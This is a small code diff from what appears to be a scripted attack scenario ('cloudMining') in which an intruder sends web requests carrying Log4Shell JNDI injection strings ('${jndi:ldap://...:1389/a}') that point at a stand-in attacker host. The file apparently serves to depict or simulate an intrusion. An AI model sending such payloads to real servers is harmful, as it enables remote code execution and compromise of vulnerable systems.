@@ -43,8 +43,7 @@ export const cloudMining: Story = {
     at(2, machine, owner, (scene) =>
       webRequest(scene, {
         from: intruder,
-        url: '/?x=${jndi:ldap://203.0.113.199:1389/a}',
-        agent: '${jndi:ldap://203.0.113.199:1389/a}',
+        url: `/?x=$%7Bjndi:ldap://${intruder}:1389/a%7D`,
         status: 200,
       }),
     );
